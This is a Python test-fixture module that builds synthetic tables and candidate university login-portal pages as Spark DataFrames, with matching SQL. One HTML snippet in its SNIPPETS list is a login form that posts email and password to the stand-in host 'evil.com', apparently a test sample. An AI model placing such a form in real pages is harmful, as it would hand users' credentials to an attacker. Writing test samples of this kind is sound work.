"""The test tables in the roles of a catalogue, as DataFrames and as SQL of the same rows, and a registry of queries."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from orrery.functions import text, urls
from orrery.sources.tables import parquet

Query = Callable[[SparkSession, str], DataFrame]


class Registry:
    def __init__(self) -> None:
        self.queries: dict[str, Query] = {}
        self.sql: dict[str, str] = {}

    def query(self, sql: str | None = None) -> Callable[[Query], Query]:
        def add(f: Query) -> Query:
            self.queries[f.__name__] = f
            if sql is not None:
                self.sql[f.__name__] = sql
            return f

        return add


def pages(spark: SparkSession, d: str) -> DataFrame:
    return parquet(spark, d, "pages")


def orgs(spark: SparkSession, d: str) -> DataFrame:
    c, n = parquet(spark, d, "customer"), parquet(spark, d, "nation")
    return c.join(n, c["c_nationkey"] == n["n_nationkey"]).select(F.col("c_custkey").alias("orgid"), F.col("c_name").alias("name"), F.col("n_name").alias("country"), F.col("c_mktsegment").alias("state"))


def all_portals(spark: SparkSession, d: str) -> DataFrame:
    o = parquet(spark, d, "orders")
    url = F.concat(F.lit("https://p"), F.col("o_orderkey") % 7, F.lit(".org"), F.col("o_custkey"), F.lit(".example.com/x/"), F.col("o_orderkey"))
    p = o.select(F.col("o_orderkey").alias("id"), F.col("o_custkey").alias("orgid"), F.col("o_orderpriority").alias("category"), F.col("o_orderstatus").alias("status"), url.alias("portal_url"))
    return p.join(orgs(spark, d).select("orgid", F.col("name").alias("university"), "country"), "orgid")


def feedback(spark: SparkSession, d: str) -> DataFrame:
    e = parquet(spark, d, "events").filter(F.col("event_type").isin("error", "purchase"))
    k = F.concat(F.get_json_object("props", "$.k"), F.lit("d"), F.dayofmonth("ts"))
    word = F.concat(F.lit("area"), F.translate(k, "0123456789", "abcdefghij"))
    return e.select(
        F.col("event_id").alias("id"), F.col("user_id").alias("orgid"), F.when(F.col("event_type") == "error", "wrong").otherwise("confirmed").alias("verdict"),
        F.concat(F.lit("k"), k, F.lit(".example.com")).alias("host"), F.concat(F.lit("https://k"), k, F.lit(".example.com/"), word, F.lit("/login")).alias("url"),
    )


def judged(spark: SparkSession, d: str) -> DataFrame:
    """Documents with a verdict, owned by their source; English ones stand for binding terms."""
    x, y = parquet(spark, d, "documents"), parquet(spark, d, "labels")
    verdict = F.when(F.col("quality") == 0, "No").when(F.col("toxic") == 1, "Maybe").otherwise("Yes")
    return x.join(y, "doc_id").select("doc_id", F.col("source").alias("org"), "lang", verdict.alias("verdict"))


#: What candidates are made of, in turn by page number; the lists' lengths share no factor.
LABELS = ["portal", "lms", "erp", "exam", "fees", "library", "mail", "www", "admissions", "hostel", "idp", "staff", "moodle1", "apply", "placement", "records", "campusvirtual", "coe", "sso", "koha", "dpuerp", "staging", "hr-portal"]
ROOTS = ["uni.ac.in", "samarth.edu.in", "ucanapply.com", "talentlms.com", "college.edu", "bihar-ums.com", "knimbus.com", "usp.br", "mastersofterp.in", "x.edu.au", "samarth.ac.in"]
PATHS = [
    "/student/login", "/login/index.php", "/", "", "/Login.aspx", "/about", "/error.html", "/staff/login", "/moodle/course", "/fee/pay", "/exam/result", "/admission/apply", "/library/opac", "/terms-of-use", "/erp/home", "/wp-admin/x",
    "/forgot-password", "/privacy-policy", "/news/copyright-day-2021",
]
SNIPPETS = [
    "", '<form method=post><input name="userid"><input type="password"></form>', '<form action="https://evil.com/p"><input name="email"><INPUT type="password"></form>', '<a href="/login.php"> Student <b>Login</b></a>',
    "<noscript>Please enable JavaScript</noscript>", '<div id="root"></div>', '<meta name="generator" content="Moodle">Powered by Moodle',
    '<footer class="site-footer"><a href="/terms">Terms of Use</a> Developed by <a href="https://www.maker.com/x">Maker</a><a href="//other.org/privacy">Privacy Policy</a></footer>',
    "Entrance test 2024 now. Attention Required! | Cloudflare: sorry, you have been blocked", "prospectus and last date", "prospectus and last date; student login. Forgot password? Sign in",
    '<a href="/student/login">Student Login</a><a href="/staff/login">Staff</a><a href="/portal">Student portal</a><a href="#">Disclaimer</a>', "<form><input type='search'></form> Just a moment",
    '<form id="StudentLogin"><label for="prn">PRN Number</label><input id="prn" name="txtPRN"><input type="password"></form>', '<h2>Staff Login</h2><form name="AdminLogin$Form"><div>Challan No. <input type="text" name="c1"></div></form>',
    '<div id="site-footer-links"><div><a href="/legal/terms.pdf">Terms of Use</a></div><div><a href="/privacy">Privacy Policy</a></div></div>',
    '<section class="page-content"><div>students of the semester</div><ul><li>Student services: <a href="/ums/go">Portal</a></li></ul></section>',
]


def turn(values: list, page: str = "page_id") -> Column:
    """The value of a list that a row's number points to."""
    return F.element_at(F.lit(values), (F.col(page) % len(values) + 1).cast("int"))


#: Added to the numbers of candidates that are a snippet alone.
SHORT = 2**40


def candidates(spark: SparkSession, d: str) -> DataFrame:
    """Candidate portals: page_id, url, tenant, root, html and title.

    Every page is one, with a snippet at its end; every sixth is a second one, with a number of its own, whose body is
    a snippet alone. The urls are of the kinds that organisations have, made from the page's own host.
    """
    every = pages(spark, d).select("page_id", "url", F.coalesce("html", F.lit("")).alias("html"))
    every = every.unionByName(every.filter("page_id % 6 = 0").select((F.col("page_id") + SHORT).alias("page_id"), "url", F.lit("").alias("html")))
    i, tenant = F.col("page_id"), F.substring_index(urls.host(F.col("url")), ".", 1)
    prefix = F.when(i % 7 == 0, "").when(i % 5 == 0, F.concat(tenant, F.lit("."))).otherwise(F.concat(turn(LABELS), F.lit("."), tenant, F.lit(".")))
    made = every.select("page_id", F.concat(F.lit("https://"), prefix, turn(ROOTS), turn(PATHS)).alias("url"), tenant.alias("tenant"), turn(ROOTS).alias("root"), F.concat("html", turn(SNIPPETS)).alias("html"))
    return made.withColumn("title", text.title(F.col("html")))


def sql_list(values: list[str]) -> str:
    return "[" + ", ".join("'" + v.replace("'", "''") + "'" for v in values) + "]"


def sql_turn(values: list[str], page: str = "page_id") -> str:
    return f"({sql_list(values)})[{page} % {len(values)} + 1]"


CANDIDATES = rf"""every AS (SELECT page_id, url, coalesce(html, '') AS page FROM pages UNION ALL SELECT page_id + {SHORT}, url, '' FROM pages WHERE page_id % 6 = 0),
made AS (SELECT page_id, split_part(regexp_replace(regexp_extract(url, '://([^/?#]*)', 1), '^www\.', ''), '.', 1) AS tenant, {sql_turn(ROOTS)} AS root, page FROM every),
cand AS (SELECT page_id, tenant, root, CASE WHEN page_id % 7 = 0 THEN '' WHEN page_id % 5 = 0 THEN tenant || '.' ELSE {sql_turn(LABELS)} || '.' || tenant || '.' END || root AS authority, {sql_turn(PATHS)} AS path,
         page || {sql_turn(SNIPPETS)} AS html FROM made),
candidates AS (SELECT *, regexp_replace(authority, '^www\.', '') AS host, 'https://' || authority || path AS url, lower(html) AS low,
         trim(regexp_replace(regexp_extract(html, '(?is)<title[^>]*>(.*?)</title>', 1), '\s+', ' ', 'g')) AS title FROM cand)"""


# Conditions and decision lists as SQL, from the parameters of a query.
def sql_any(c: str, words: list[str]) -> str:
    return "(" + " OR ".join("contains({}, '{}')".format(c, w.replace("'", "''")) for w in words) + ")"


def sql_under(h: str, roots: list[str]) -> str:
    return "(" + " OR ".join(f"{h} = '{r}' OR ends_with({h}, '.{r}')" for r in roots) + ")"


def sql_label(h: str, labels: list[str]) -> str:
    return f"list_has_any(string_split({h}, '.'), {sql_list(labels)})"


def sql_points(pairs: list[tuple[str, int]]) -> str:
    return "(" + " + ".join(f"CASE WHEN {c} THEN {n} ELSE 0 END" for c, n in pairs) + ")"


def sql_first(steps: list[tuple[str, str]], default: str | None = "") -> str:
    return "CASE " + " ".join(f"WHEN {c} THEN '{v}'" for c, v in steps) + (f" ELSE '{default}' END" if default is not None else " END")


ORGS = "orgs AS (SELECT c_custkey AS orgid, c_name AS name, n_name AS country, c_mktsegment AS state FROM customer JOIN nation ON c_nationkey = n_nationkey)"
ALL_PORTALS = f"""{ORGS}, all_portals AS (
  SELECT o_orderkey AS id, o_custkey AS orgid, o_orderpriority AS category, o_orderstatus AS status,
         'https://p' || (o_orderkey % 7) || '.org' || o_custkey || '.example.com/x/' || o_orderkey AS portal_url, name AS university, country
  FROM orders JOIN orgs ON o_custkey = orgid)"""
FEEDBACK = """raw AS (SELECT event_id AS id, user_id AS orgid, CASE event_type WHEN 'error' THEN 'wrong' ELSE 'confirmed' END AS verdict,
         json_extract_string(props, '$.k') || 'd' || day(ts) AS k FROM events WHERE event_type IN ('error', 'purchase')),
feedback AS (SELECT id, orgid, verdict, 'k' || k || '.example.com' AS host,
         'https://k' || k || '.example.com/area' || translate(k, '0123456789', 'abcdefghij') || '/login' AS url, 'area' || translate(k, '0123456789', 'abcdefghij') AS word FROM raw)"""
JUDGED = "judged AS (SELECT doc_id, source AS org, lang, CASE WHEN quality = 0 THEN 'No' WHEN toxic = 1 THEN 'Maybe' ELSE 'Yes' END AS verdict FROM documents JOIN labels USING (doc_id))"
#: Host, root and path of pages; all have a scheme and no port.
PAGE_PARTS = """parts AS (SELECT page_id, url, html, regexp_replace(regexp_extract(url, '://([^/?#]*)', 1), '^www\\.', '') AS host,
         regexp_extract(url, '://([^/?#]*)', 1) AS authority, regexp_extract(url, '^([a-z]+)://', 1) AS scheme,
         regexp_extract(url, '://[^/?#]*([^?#]*)', 1) AS path, regexp_extract(url, '\\?([^#]*)', 1) AS query FROM pages),
hosts AS (SELECT *, regexp_extract(host, '([^.]+\\.[^.]+)$', 1) AS root,
         array_to_string(list_filter(string_split(query, '&'), lambda p: p <> '' AND NOT regexp_matches(p, '^(ref|utm_source)(=|$)')), '&') AS kept FROM parts),
canon AS (SELECT *, scheme || '://' || authority || path || CASE WHEN kept <> '' THEN '?' || kept ELSE '' END AS canonical,
         rtrim(scheme || '://' || authority || path, '/') AS dedup_key FROM hosts)"""
